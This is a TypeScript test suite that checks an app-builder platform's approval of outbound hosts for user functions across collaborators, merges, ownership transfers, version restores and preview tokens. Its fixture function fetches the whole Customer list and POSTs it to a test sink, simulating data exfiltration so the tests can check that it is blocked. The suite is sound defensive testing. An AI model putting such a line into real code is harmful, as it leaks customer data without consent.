import { appStore, collaboratorsApi } from '@buildai/apps/shared';
import { describeOnEachDatabase } from '@buildai/core/testing';
import type { Builder } from '@buildai/runtime/test/support/app-host.js';
import { appChanges, versionsApi, versionStore } from '@buildai/versions/shared';
import { expect } from 'chai';
import { functionThat } from './hostile-functions.js';
import type { HostileWorld } from './hostile-world.js';
import { startHostileWorld } from './hostile-world.js';

describeOnEachDatabase('An approval', (database) => {
  let world: HostileWorld;
  let send: string;
  before(async () => {
    world = await startHostileWorld(database);
    send = functionThat(
      `return fetch('${world.sink.at('/sent')}', { method: 'POST', body: JSON.stringify(await context.service.entities.Customer.list()) });`,
      { sink: '' },
    );
  });
  after(() => world?.stop());
  beforeEach(() => world.sink.forget());

  /** A shop whose function works, since a builder allowed all of it. */
  const approved = async (owner: Builder = world.ada) => {
    const appId = await world.newShop([], owner);
    await world.change(appId, { type: 'write', path: 'functions/send.js', content: send });
    await world.allow(appId, ['127.0.0.1'], owner);
    await world.confirm(appId, 'send', owner);
    return appId;
  };
  const call = async (appId: string, { token }: Builder, name = 'send') => {
    const init = { method: 'POST', body: '{}', headers: { authorization: `Bearer ${token}` } };
    return (await world.get(`${world.url}/api/apps/${appId}/functions/${name}`, init)).text();
  };
  /** Makes a builder a collaborator of Ada’s app. */
  const joins = async (appId: string, builder: Builder, email: string) => {
    const ofAda = world.client(collaboratorsApi, world.ada.token);
    await ofAda.inviteCollaborator({ params: { appId }, body: { email } });
    const link = await world.mail.link();
    const token = new URL(link).searchParams.get('token') ?? '';
    await world.client(collaboratorsApi, builder.token).acceptInvitation({ body: { token } });
  };
  const allowedIn = async (appId: string, builder: Builder) =>
    (await world.rights(builder).listFunctionHosts({ params: { appId } })).hosts
      .filter(({ state }) => state === 'allowed')
      .map(({ host }) => host);
  /** The same code in another app, or of another owner. */
  const isAskedAgain = async (appId: string, builder: Builder) => {
    world.sink.forget();
    expect(await call(appId, builder)).to.include('functions/not-confirmed');
    expect(await allowedIn(appId, builder)).to.deep.equal([]);
    await world.confirm(appId, 'send', builder).catch(() => undefined);
    expect(world.sink.received).to.deep.equal([]);
  };

  it('lets the function reach the host', async () => {
    const appId = await approved();
    expect(await call(appId, world.ada)).to.equal('did 200');
    expect(world.sink.received).to.have.length(1);
  });

  it('and its removal by another builder at the same time leave what the list says', async () => {
    const { ada, grace } = world;
    const appId = await approved();
    await joins(appId, grace, 'grace@example.com');
    const params = { appId, host: '127.0.0.1' };
    for (let round = 0; round < 12; round++) {
      world.sink.forget();
      await Promise.allSettled([
        world.allow(appId, ['127.0.0.1'], round % 2 ? ada : grace),
        world.rights(round % 2 ? grace : ada).removeFunctionHost({ params }),
        call(appId, ada),
      ]);
      world.sink.forget();
      const isAllowed = (await allowedIn(appId, grace)).includes('127.0.0.1');
      expect(await call(appId, grace)).to.equal(isAllowed ? 'did 200' : 'failed functions/host-not-allowed');
      expect(world.sink.received).to.have.length(isAllowed ? 1 : 0);
    }
  });

  // Requests at once are above. The rest is rules, whose statements suites of the plugins run on both databases.
  if (database !== 'sqlite') return;

  it('stays behind when code is merged into another app', async () => {
    await approved();
    const { ada } = world;
    const other = await world.newShop([]);
    await world.client(versionsApi, ada.token).mergeFiles({
      params: { appId: other },
      body: { files: [{ path: 'functions/send.js', content: send }] },
    });
    await isAskedAgain(other, ada);
  });

  it('ends with the owner for what was published before hosts were listed', async () => {
    const { grace } = world;
    const appId = await world.newShop([]);
    await world.change(appId, { type: 'write', path: 'functions/send.js', content: send });
    const origin = (await world.publish(appId)).replace(/\/$/, '');
    const version_id = (await world.service(appStore).get(appId))?.publishedVersionId;
    await world.db('unlisted_functions').insert({ app_id: appId, version_id });
    const visit = async () =>
      (await world.get(`${origin}/api/apps/${appId}/functions/send`, { method: 'POST', body: '{}' })).text();
    expect(await visit()).to.equal('did 200');
    world.sink.forget();
    await world.service(appStore).transfer(appId, grace.accountId);
    await world.confirm(appId, 'send', grace);
    await world.rights(grace).removeFunctionHost({ params: { appId, host: '127.0.0.1' } });
    expect(await visit()).to.equal('failed functions/host-not-allowed');
    expect(world.sink.received).to.deep.equal([]);
  });

  it('does not come back with a version from when it was given', async () => {
    const { ada } = world;
    const appId = await approved();
    const versions = world.service(versionStore);
    const then = (await versions.head(appId))?.versionId ?? '';
    await world.rights().removeFunctionHost({ params: { appId, host: '127.0.0.1' } });
    await world.replyWith(appId, { 'functions/send.js': `${send}// another` });
    expect(await call(appId, ada)).to.include('functions/not-confirmed');
    await world.service(appChanges).restore(appId, then, { actor: ada });
    expect(await call(appId, ada)).to.equal('failed functions/host-not-allowed');
    const origin = await world.publish(appId);
    for (const answer of await world.callEverywhere(appId, 'send', origin))
      expect(answer).to.equal('failed functions/host-not-allowed');
    expect(world.sink.received).to.deep.equal([]);
  });

  it('is given by people who build the app alone', async () => {
    const appId = await world.newShop([]);
    await world.change(appId, { type: 'write', path: 'functions/send.js', content: send });
    const codeHash = (await world.functionsOf(appId))[0]?.codeHash ?? '';
    const preview = await world.previewToken(appId);
    const visitor: Builder = { token: preview, accountId: '' };
    for (const builder of [world.grace, visitor]) {
      const refused = [
        world.allow(appId, ['127.0.0.1'], builder),
        world.rights(builder).confirmFunction({ params: { appId, name: 'send' }, body: { codeHash } }),
        world.rights(builder).confirmFunctionHosts({ params: { appId } }),
      ].map((request) =>
        request.then(
          () => 'given',
          (error: { status: number }) => error.status,
        ),
      );
      for (const status of await Promise.all(refused)) expect(status).to.be.oneOf([401, 403, 404]);
    }
    // Code of the app runs as its builder in the preview: with a token of it, and at its address.
    const path = `/api/apps/${appId}/functions/hosts`;
    const answer = await world.get(`${await world.previewOrigin(appId)}${path}`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${preview}`, 'content-type': 'application/json' },
      body: JSON.stringify({ hosts: ['127.0.0.1'], state: 'allowed' }),
    });
    expect(answer.status).to.be.oneOf([401, 403, 404, 405]);
    expect(await allowedIn(appId, world.ada)).to.deep.equal([]);
  });
});
